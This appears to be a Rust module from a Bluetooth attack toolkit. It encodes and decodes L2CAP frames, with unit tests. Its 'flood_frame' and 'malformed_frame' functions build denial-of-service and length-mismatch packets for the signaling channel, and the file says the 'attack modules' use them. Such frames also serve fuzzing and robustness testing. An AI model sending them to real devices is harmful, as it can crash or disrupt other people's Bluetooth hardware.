//! L2CAP basic frames: `len:u16le | cid:u16le | payload`.
//!
//! The length field counts payload bytes only. Builders never check that
//! the field agrees with the payload, so callers can produce malformed frames.

use crate::error::{need, CodecResult};

pub const HEADER_LEN: usize = 4;

/// Fixed channel identifiers.
pub mod cid {
    pub const SIGNALING: u16 = 0x0001;
    pub const CONNECTIONLESS: u16 = 0x0002;
}

/// Protocol/service multiplexers used by the attack modules.
pub mod psm {
    pub const SDP: u16 = 0x0001;
    pub const RFCOMM: u16 = 0x0003;
    pub const AVCTP: u16 = 0x0017;
    pub const AVDTP: u16 = 0x0019;
    pub const AVCTP_BROWSING: u16 = 0x001B;
}

/// Signaling command codes.
pub mod code {
    pub const COMMAND_REJECT: u16 = 0x0001;
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Header {
    pub length: u16,
    pub cid: u16,
}

/// Frame with a length field matching the payload.
pub fn encode(cid: u16, payload: &[u8]) -> Vec<u8> {
    encode_with_length(payload.len() as u16, cid, payload)
}

/// Frame with an arbitrary length field.
pub fn encode_with_length(length: u16, cid: u16, payload: &[u8]) -> Vec<u8> {
    let mut buf = vec![0u8; HEADER_LEN + payload.len()];
    buf[0..2].copy_from_slice(&length.to_le_bytes());
    buf[2..4].copy_from_slice(&cid.to_le_bytes());
    buf[HEADER_LEN..].copy_from_slice(payload);
    buf
}

/// Split a frame into its header and the bytes after it.
pub fn decode_header(buf: &[u8]) -> CodecResult<(Header, &[u8])> {
    need(buf, HEADER_LEN)?;
    let header = Header {
        length: u16::from_le_bytes([buf[0], buf[1]]),
        cid: u16::from_le_bytes([buf[2], buf[3]]),
    };
    Ok((header, &buf[HEADER_LEN..]))
}

/// Flood frame of exactly `size` bytes on the signaling channel, filled with
/// `'A'`. Sizes below the header length are raised to it.
pub fn flood_frame(size: usize) -> Vec<u8> {
    let size = size.max(HEADER_LEN);
    let filler = vec![b'A'; size - HEADER_LEN];
    encode(cid::SIGNALING, &filler)
}

/// Signaling command carrying `payload`. The length field covers the 4-byte
/// command header plus payload; the identifier slot carries the payload length.
pub fn signaling_command(code: u16, payload: &[u8]) -> Vec<u8> {
    let mut body = Vec::with_capacity(4 + payload.len());
    body.extend_from_slice(&code.to_le_bytes());
    body.extend_from_slice(&(payload.len() as u16).to_le_bytes());
    body.extend_from_slice(payload);
    encode(cid::SIGNALING, &body)
}

/// Zero-length header followed by 512 bytes of junk.
pub fn malformed_frame() -> Vec<u8> {
    encode_with_length(0, cid::SIGNALING, &[b'B'; 512])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn header_layout_is_little_endian() {
        let frame = encode(0x0040, &[1, 2, 3]);
        assert_eq!(&frame[..4], &[0x03, 0x00, 0x40, 0x00]);
        assert_eq!(&frame[4..], &[1, 2, 3]);
    }

    #[test]
    fn decode_header_roundtrip() {
        for len in [0usize, 1, 4, 255, 256, 4096, 65535] {
            let payload = vec![0x5A; len];
            let frame = encode(cid::SIGNALING, &payload);
            let (header, rest) = decode_header(&frame).unwrap();
            assert_eq!(header.length as usize, len);
            assert_eq!(header.cid, cid::SIGNALING);
            assert_eq!(rest.len(), len);
        }
    }

    #[test]
    fn flood_frame_has_requested_size() {
        let frame = flood_frame(8);
        assert_eq!(frame.len(), 8);
        assert_eq!(decode_header(&frame).unwrap().0.length, 4);
        assert_eq!(flood_frame(2).len(), HEADER_LEN);
    }

    #[test]
    fn signaling_command_layout() {
        let frame = signaling_command(code::COMMAND_REJECT, b"xyz");
        let (header, rest) = decode_header(&frame).unwrap();
        assert_eq!(header.length, 7);
        assert_eq!(&rest[..4], &[0x01, 0x00, 0x03, 0x00]);
    }

    #[test]
    fn malformed_frame_lies_about_length() {
        let frame = malformed_frame();
        assert_eq!(decode_header(&frame).unwrap().0.length, 0);
        assert_eq!(frame.len(), HEADER_LEN + 512);
    }

    #[test]
    fn short_buffer_is_rejected() {
        assert!(decode_header(&[0x01, 0x00]).is_err());
    }
}
